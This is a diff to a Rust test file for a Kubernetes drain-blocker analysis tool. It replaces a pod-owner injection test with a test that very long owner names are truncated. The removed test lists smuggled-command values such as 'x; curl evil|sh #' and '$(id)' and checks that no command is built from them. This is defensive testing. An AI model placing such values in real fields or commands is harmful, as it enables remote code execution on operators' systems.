@@ -74,18 +74,16 @@ fn a_cluster_whose_pods_can_all_leave_has_no_finding() {
     );
 }
 
-/// A user of a namespace writes the owner of a pod, and nothing checks it.
+/// Users write owner references, and no controller checks them.
 #[test]
-fn an_owner_that_is_no_object_gets_no_command() {
-    for (kind, name) in [("x", "x; curl evil|sh #"), ("x;id", "web"), ("x", "web\u{1b}[2K\rkubectl"), ("$(id)", "web")]
-    {
-        let mut planted = pod("game-0", "game", "n-4", &json!({}));
-        planted.metadata.annotations = Some([("karpenter.sh/do-not-disrupt".to_owned(), "true".to_owned())].into());
-        let owner = &mut planted.metadata.owner_references.as_mut().unwrap()[0];
-        (owner.kind, owner.name) = (kind.to_owned(), name.to_owned());
-        let found = of(&[], &[planted]).findings;
-        assert_eq!((found[0].id, &found[0].command), (FindingId::DoNotDisrupt, &None), "{kind} {name}");
-    }
+fn owner_of_any_length_is_cut_off() {
+    let mut planted = pod("game-0", "game", "n-4", &json!({}));
+    planted.metadata.annotations = Some([("karpenter.sh/do-not-disrupt".to_owned(), "true".to_owned())].into());
+    let owner = &mut planted.metadata.owner_references.as_mut().unwrap()[0];
+    (owner.kind, owner.name) = ("x".to_owned(), "y".repeat(1_000_000));
+    let found = of(&[], &[planted]).findings;
+    assert_eq!(found[0].id, FindingId::DoNotDisrupt);
+    assert!(found[0].object.len() < 300);
 }
 
 #[test]
@@ -93,7 +91,7 @@ fn each_thing_that_holds_a_drain_up_is_told_with_what_to_do() {
     let long = json!({"terminationGracePeriodSeconds": 600});
     let mut do_not_disrupt = pod("game-0", "game", "n-4", &json!({}));
     do_not_disrupt.metadata.annotations = Some([("karpenter.sh/do-not-disrupt".to_owned(), "true".to_owned())].into());
-    let mut bare = pod("debug", "debug", "n-5", &json!({}));
+    let mut bare = pod("debug", "debug", "n-5", &long);
     bare.metadata.owner_references = None;
     let pods = vec![
         pod("web-0", "web", "n-1", &json!({})),
@@ -106,8 +104,6 @@ fn each_thing_that_holds_a_drain_up_is_told_with_what_to_do() {
         pod("two-1", "two", "n-6", &json!({})),
         do_not_disrupt,
         bare,
-        pod("agent-0", "agent", "n-1", &json!({"tolerations": [{"operator": "Exists"}]})),
-        pod("agent-1", "agent", "n-2", &json!({"tolerations": [{"operator": "Exists"}]})),
     ];
     let budgets = [
         ("web", "web", status(0, 2, 2, 2)),
